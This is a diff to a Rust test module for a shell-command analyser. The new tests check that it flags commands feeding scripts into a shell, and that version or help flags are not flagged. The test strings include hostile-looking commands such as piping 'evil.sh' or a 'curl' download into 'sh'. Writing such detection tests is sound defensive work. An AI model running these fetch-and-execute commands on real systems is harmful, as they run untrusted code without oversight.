@@ -1257,11 +1257,20 @@ mod review {
     fn a_file_redirected_after_a_here_doc_is_the_input() {
         for cmd in [
             "cat <<EOF < evil.sh | sh\nls\nEOF\n",
-            "bash <<EOF < run.sh\nls\nEOF\n",
             "cat <<<'ls' < evil.sh | sh",
+            "cat <<EOF < <(curl -s u) | sh\nls\nEOF\n",
+            "sh <<EOF <&3\nls\nEOF\n",
         ] {
             flagged(cmd);
         }
+        // A script file, like `bash run.sh`: a command flowgate cannot see.
+        for cmd in ["bash <<EOF < run.sh\nls\nEOF\n", "bash < run.sh"] {
+            let a = analyse(cmd);
+            assert_eq!(a, analyse_whole(cmd), "{cmd:?}");
+            assert_eq!(a.unknown, ["run.sh"], "{cmd:?}");
+        }
+        // A here-doc after the file is the input.
+        assert_eq!(super::writes("sh < run.sh <<EOF\nrm x\nEOF\n"), ["rm"]);
     }
 
     /// A shell with no script reads one from its standard input, which a
@@ -1275,6 +1284,10 @@ mod review {
             "sh <&3",
         ] {
             flagged(cmd);
+        }
+        // Printing a version or help reads no script.
+        for cmd in ["lua -v", "node -v", "perl -v", "bash --version", "python3 -h"] {
+            assert_eq!(analyse(cmd).unparsable, None, "{cmd:?}");
         }
     }
 }
